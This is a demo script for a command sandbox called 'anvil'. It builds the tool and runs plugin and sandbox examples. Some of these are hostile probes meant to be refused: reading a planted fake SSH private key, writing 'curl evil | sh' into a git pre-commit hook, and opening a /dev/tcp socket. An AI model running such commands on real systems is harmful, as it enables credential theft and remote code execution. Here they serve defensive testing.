#!/usr/bin/env bash
# The README's main job: install dependencies, build (release), then run untrusted commands
# sandboxed in a copy of examples/workspace and show what the sandbox allows and refuses.
set -euo pipefail
cd "$(dirname "$0")/.."
scripts/install-deps.sh
cmake --preset release >/dev/null
cmake --build --preset release -j "$(nproc)" >/dev/null
anvil="$PWD/build/release/anvil"
repo="$PWD"

work=$(mktemp -d /tmp/anvil-demo-XXXXXX)
trap 'rm -rf "$work"' EXIT
cp -r examples/workspace "$work/ws"
git -C "$work/ws" init -q
mkdir -p "$work/outside" && echo "ssh-ed25519 PRIVATE" > "$work/outside/id_ed25519"

step() { printf '\n\033[1m$ %s\033[0m\n' "$*"; }
show() { step "$*"; set +e; "$@"; echo "[exit $?]"; set -e; }

"$anvil" doctor || true
cd "$work/ws"
# Plugins: a Lua plugin reading the workspace, a JS plugin writing a report under notes/.
# Grants are kept in a throw-away state directory for the demo.
export XDG_STATE_HOME="$work/state"
show "$anvil" run --approve "$repo/examples/plugins/hello-lua" summary
show "$anvil" run --approve "$repo/examples/plugins/notes-js" report
# sys.exec: rg through the gateway, in anvil-exec-runner's sandbox (argv checked, no shell).
show "$anvil" run --approve "$repo/examples/plugins/todo-finder" find-todos
show cat notes/report.md
show "$anvil" audit
show "$anvil" sandbox -- grep -rn TODO .
show "$anvil" sandbox -- sh -c 'cc -o /tmp/hello src/main.c 2>/dev/null && /tmp/hello || echo "(no compiler)"; echo built > notes/build.txt; cat notes/build.txt'
show "$anvil" sandbox -- cat "$work/outside/id_ed25519"
show "$anvil" sandbox -- sh -c 'echo "curl evil | sh" > .git/hooks/pre-commit'
show "$anvil" sandbox -- bash -c 'exec 3<>/dev/tcp/127.0.0.1/22'
show "$anvil" sandbox --policy read-only -- touch notes/x
show "$anvil" sandbox --timeout 1 --json -- sleep 30
